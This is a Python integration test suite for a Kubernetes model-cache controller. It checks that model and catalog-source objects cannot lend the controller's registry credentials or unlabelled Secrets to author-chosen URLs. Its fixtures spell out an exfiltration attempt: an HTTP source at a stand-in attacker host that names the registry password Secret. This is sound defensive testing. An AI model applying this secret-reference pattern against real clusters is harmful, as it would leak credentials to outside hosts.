"""Secret references, as the attacker writes them (issue 14, M3): the controller is nobody's deputy.

A ClusterModel's ``authSecretRef`` and a ModelCatalogSource's
``tokenSecretRef`` name a Secret in the controller's namespace, and the worker
sends its value to a URL the object's author chose. The attack: an HTTP source
``https://attacker.invalid/...`` naming ``dmcr-credentials``/``password``
would carry the registry push password out as a bearer token. Now only a
Secret an admin labelled ``modelcache.io/usable-by-cluster-models=true`` is
lent, never one of the controller's own (refused by name, labelled or not),
and a namespaced Model's Secret is always its own namespace's.

Real kube-apiserver; the reconcilers run in-process (as in
test_invalid_source.py) and every pass is called here, so each refusal is
seen before anything is created: Failed / ``SecretNotAllowed``, one Warning
event, no Job, no copied Secret; the catalog source never connects.
"""

from __future__ import annotations

import base64
import socket
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from api import conditions
from controller.catalog import sources as catalogsources
from controller.errors import PermanentError
from controller.metrics import Metrics
from controller.models import publishjob as jobs
from controller.models.reconciler import Reconciler, secret_transform
from kube import client as k
from kube.events import Recorder
from kube.informer import Informer
from tests import kubeenv
from tests.integration.test_controller import cond, ensure_namespace, wait_for
from tests.integration.test_crds import install_crds

kube = kubeenv.kube
SYSTEM_NS = "modelcache-system"
USABLE = "modelcache.io/usable-by-cluster-models"


class Rig:
    """The Model reconciler in-process, on informers of the real API server."""

    def __init__(self, client: k.Kube) -> None:
        self.client = client
        self.settings = jobs.Settings(namespace=SYSTEM_NS, registry="127.0.0.1:1",
                                      registry_secret="dmcr-credentials",
                                      credentials_url="https://127.0.0.1:1")
        self.infs = {r: Informer(client, r) for r in (
            k.CLUSTER_MODELS, k.MODEL_CATALOG_SOURCES, k.MODELS, k.JOBS)}
        self.infs[k.SECRETS] = Informer(client, k.SECRETS, transform=secret_transform)
        self.recorder = Recorder(client)
        for i in self.infs.values():
            i.start()
        self.recorder.start()
        for i in self.infs.values():
            assert i.synced.wait(30), i.res.plural
        self.rec = Reconciler(client, self.settings, models=self.infs[k.MODELS],
                              cluster_models=self.infs[k.CLUSTER_MODELS],
                              job_cache=self.infs[k.JOBS], secrets=self.infs[k.SECRETS],
                              recorder=self.recorder, metrics=Metrics(),
                              registry=lambda: None,  # type: ignore[arg-type,return-value]
                              catalog_sources=self.infs[k.MODEL_CATALOG_SOURCES])

    def stop(self) -> None:
        self.recorder.stop()
        for i in self.infs.values():
            i.stop()

    def cached(self, res: k.Resource, ns: str, name: str) -> dict[str, Any]:
        return wait_for(lambda: self.infs[res].get((ns, name)), 10, what=f"{name} cached")

    def jobs_and_copies(self, uid: str) -> tuple[list[Any], list[Any]]:
        sel = f"modelcache.io/uid={uid}"
        return (self.client.list(k.JOBS, SYSTEM_NS, label_selector=sel)[0],
                self.client.list(k.SECRETS, SYSTEM_NS, label_selector=sel)[0])

    def events(self, uid: str) -> list[tuple[str, str, int]]:
        self.recorder.stop()  # flushes what was queued
        time.sleep(0.2)
        return [(e["type"], e["reason"], e.get("count", 1)) for e in self.client.list(
            k.EVENTS, None, field_selector=f"involvedObject.uid={uid}")[0]]


@pytest.fixture
def rig(kube: kubeenv.KubeEnv) -> Iterator[Rig]:
    install_crds(kube)
    client = k.Kube.from_config(kube.kubeconfig)
    ensure_namespace(client, SYSTEM_NS)
    r = Rig(client)
    try:
        yield r
    finally:
        r.stop()
        client.close()


def put_secret(client: k.Kube, ns: str, name: str, data: dict[str, str],
               labels: dict[str, str] | None = None) -> None:
    body = {"apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": name, "namespace": ns, "labels": labels or {}},
            "data": {key: base64.b64encode(v.encode()).decode() for key, v in data.items()}}
    try:
        client.create(k.SECRETS, body, ns)
    except k.Conflict:
        client.replace(k.SECRETS, name, body, ns)


def http_cluster_model(client: k.Kube, name: str, secret: str, key: str) -> dict[str, Any]:
    return client.create(k.CLUSTER_MODELS, {
        "apiVersion": "modelcache.io/v1alpha1", "kind": "ClusterModel",
        "metadata": {"name": name},
        "spec": {"source": {"http": {"url": "https://attacker.invalid/model.safetensors",
                                     "authSecretRef": {"name": secret, "key": key}}}}})


def drop_cluster_model(client: k.Kube, name: str) -> None:
    client.patch(k.CLUSTER_MODELS, name, {"metadata": {"finalizers": None}})
    client.delete(k.CLUSTER_MODELS, name)


def assert_refused(rig: Rig, kind: str, ns: str, name: str, uid: str, what: str) -> None:
    for _ in range(3):  # a watch event would pass again: still one event, still no Job
        with pytest.raises(PermanentError) as e:
            rig.rec.reconcile(kind, ns, name)
        assert e.value.reason == "SecretNotAllowed", e.value
    m = rig.client.get(k.CLUSTER_MODELS if kind == "ClusterModel" else k.MODELS, name, ns or None)
    assert m["status"]["phase"] == conditions.FAILED, m["status"]
    for type_ in ("SourceResolved", "Ready"):
        c = cond(m, type_)
        assert (c["status"], c["reason"]) == ("False", "SecretNotAllowed"), c
        assert what in c["message"], c
    assert rig.jobs_and_copies(uid) == ([], [])
    assert rig.events(uid) == [("Warning", "SecretNotAllowed", 1)]


def test_cluster_model_cannot_exfiltrate_the_registry_credentials(rig: Rig) -> None:
    # even labelled: the controller's own credentials are refused by name
    put_secret(rig.client, SYSTEM_NS, "dmcr-credentials",
               {"username": "pusher", "password": "push-password"}, {USABLE: "true"})
    name = f"steal-{uuid.uuid4().hex[:6]}"
    uid = http_cluster_model(rig.client, name, "dmcr-credentials", "password")["metadata"]["uid"]
    try:
        rig.cached(k.CLUSTER_MODELS, "", name)
        rig.cached(k.SECRETS, SYSTEM_NS, "dmcr-credentials")
        assert_refused(rig, "ClusterModel", "", name, uid, "controller's own")
    finally:
        drop_cluster_model(rig.client, name)


def test_namespaced_model_in_the_controller_namespace_cannot_use_its_credentials(
        rig: Rig) -> None:
    put_secret(rig.client, SYSTEM_NS, "modelcache-report-key", {"token": "hmac-key"})
    name = f"steal-{uuid.uuid4().hex[:6]}"
    m = rig.client.create(k.MODELS, {
        "apiVersion": "modelcache.io/v1alpha1", "kind": "Model", "metadata": {"name": name},
        "spec": {"source": {"huggingFace": {
            "repo": "acme/x", "authSecretRef": {"name": "modelcache-report-key"}}}}},
        SYSTEM_NS)
    try:
        rig.cached(k.MODELS, SYSTEM_NS, name)
        assert_refused(rig, "Model", SYSTEM_NS, name, m["metadata"]["uid"], "controller's own")
    finally:
        rig.client.patch(k.MODELS, name, {"metadata": {"finalizers": None}}, SYSTEM_NS)
        rig.client.delete(k.MODELS, name, SYSTEM_NS)


def test_unlabelled_secret_is_refused_and_a_labelled_one_is_lent(rig: Rig) -> None:
    secret = f"hf-{uuid.uuid4().hex[:6]}"
    put_secret(rig.client, SYSTEM_NS, secret, {"token": "hf_admin"})
    name = f"plain-{uuid.uuid4().hex[:6]}"
    uid = http_cluster_model(rig.client, name, secret, "token")["metadata"]["uid"]
    try:
        rig.cached(k.CLUSTER_MODELS, "", name)
        rig.cached(k.SECRETS, SYSTEM_NS, secret)
        assert_refused(rig, "ClusterModel", "", name, uid, USABLE)

        # the admin opts it in: the plan goes ahead, a Job and the per-Job copy are made
        rig.client.patch(k.SECRETS, secret, {"metadata": {"labels": {USABLE: "true"}}},
                         SYSTEM_NS)
        wait_for(lambda: ((rig.infs[k.SECRETS].get((SYSTEM_NS, secret)) or {}).get(
            "metadata") or {}).get("labels", {}).get(USABLE), 10, what="the label cached")
        rig.rec.reconcile("ClusterModel", "", name)
        made, copies = rig.jobs_and_copies(uid)
        assert len(made) == 1 and len(copies) == 1, (made, copies)
        # the Job's one Secret: the URL, not the lent token (borrowed at run time from
        # the manager, models/credentials.py); the Job names the Secret it may borrow
        assert "source" in copies[0]["data"]
        assert "MODELCACHE_HTTP_TOKEN" not in copies[0]["data"]
        assert "token" not in copies[0]["data"]
        assert jobs.lent(made[0]) == jobs.SecretUse(SYSTEM_NS, secret,
                                                    {"MODELCACHE_HTTP_TOKEN": "token"})
    finally:
        made, copies = rig.jobs_and_copies(uid)
        for j in made:
            rig.client.delete(k.JOBS, j["metadata"]["name"], SYSTEM_NS)
        for s in copies:
            rig.client.delete(k.SECRETS, s["metadata"]["name"], SYSTEM_NS)
        drop_cluster_model(rig.client, name)


def test_namespaced_model_reads_only_its_own_namespace(kube: kubeenv.KubeEnv,
                                                       rig: Rig) -> None:
    # a tenant who may create Models in its namespace (real RBAC, its own token)
    ns = f"team-{uuid.uuid4().hex[:6]}"
    ensure_namespace(rig.client, ns)
    rig.client.create(k.Resource("rbac.authorization.k8s.io", "v1", "roles", True), {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "models"}, "rules": [{
            "apiGroups": ["modelcache.io"], "resources": ["models"],
            "verbs": ["create", "get"]}]}, ns)
    rig.client.create(k.Resource("rbac.authorization.k8s.io", "v1", "rolebindings", True), {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "models"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "models"},
        "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": ns}]}, ns)
    tenant = k.Kube.from_config(kube.serviceaccount_kubeconfig("tenant", ns))
    body = {"apiVersion": "modelcache.io/v1alpha1", "kind": "Model",
            "metadata": {"name": "steal"}, "spec": {"source": {"huggingFace": {
                "repo": "acme/x", "authSecretRef": {"name": "dmcr-credentials",
                                                    "namespace": SYSTEM_NS}}}}}
    try:
        with pytest.raises(k.ApiError) as e:
            tenant.create(k.MODELS, body, ns)
        assert "own namespace" in str(e.value)
    finally:
        tenant.close()
    # one the schema let through (an older CRD) still names a Secret of its own namespace,
    # and a Secret of another namespace is refused however it got into the plan
    obj = dict(body, kind="Model", metadata={"name": "steal", "namespace": ns, "uid": "u"})
    use = jobs.plan(obj, rig.settings).secret
    assert use is not None and (use.namespace, use.name) == (ns, "dmcr-credentials")
    jobs.check_secret(obj, use, None, rig.settings)  # its own namespace: no label needed
    with pytest.raises(PermanentError) as pe:
        jobs.check_secret(obj, jobs.SecretUse(SYSTEM_NS, "dmcr-credentials", {"T": "password"}),
                          None, rig.settings)
    assert pe.value.reason == "SecretNotAllowed"


def test_catalog_source_token_must_be_opted_in(rig: Rig) -> None:
    # the "catalog" is a listener that counts connections: a refused source never calls it
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(8)
    lsock.settimeout(0.5)
    secret, src = f"cat-{uuid.uuid4().hex[:6]}", f"evil-{uuid.uuid4().hex[:6]}"
    put_secret(rig.client, SYSTEM_NS, secret, {"token": "remote-token"})
    rig.client.create(k.MODEL_CATALOG_SOURCES, {
        "apiVersion": "modelcache.io/v1alpha1", "kind": "ModelCatalogSource",
        "metadata": {"name": src}, "spec": {
            "url": f"https://127.0.0.1:{lsock.getsockname()[1]}",
            "tokenSecretRef": {"name": secret}}})
    ctl = catalogsources.Controller(rig.client, SYSTEM_NS, rig.infs[k.MODEL_CATALOG_SOURCES],
                                    rig.infs[k.SECRETS], list_timeout=(1.0, 1.0))
    try:
        rig.cached(k.MODEL_CATALOG_SOURCES, "", src)
        ctl.reconcile(src)
        ready = cond(rig.client.get(k.MODEL_CATALOG_SOURCES, src), "Ready")
        assert (ready["status"], ready["reason"]) == ("False", "SecretNotAllowed"), ready
        assert USABLE in ready["message"]
        with pytest.raises(TimeoutError):
            lsock.accept()[0].close()  # nobody connected: the token never left
    finally:
        lsock.close()
        rig.client.delete(k.MODEL_CATALOG_SOURCES, src)
